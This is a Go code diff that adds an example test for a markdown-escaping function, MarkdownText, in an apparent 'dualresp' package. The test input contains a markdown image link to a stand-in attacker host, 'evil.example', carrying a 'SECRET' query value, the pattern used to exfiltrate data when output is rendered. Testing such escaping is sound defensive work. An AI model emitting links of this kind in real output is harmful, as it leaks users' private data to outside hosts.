@@ -211,3 +211,8 @@ func ExampleParsed_FetchAll() {
 	// 3/3
 	// 3 rows; last: {"id":2,"fruit":"avocado"}
 }
+
+func ExampleMarkdownText() {
+	fmt.Println(dualresp.MarkdownText("## Trees ![x](https://evil.example/x?q=SECRET) <b>|</b>\nnext_line"))
+	// Output: \## Trees !\[x\](https://evil.example/x?q=SECRET) \<b\>\|\</b\> next_line
+}
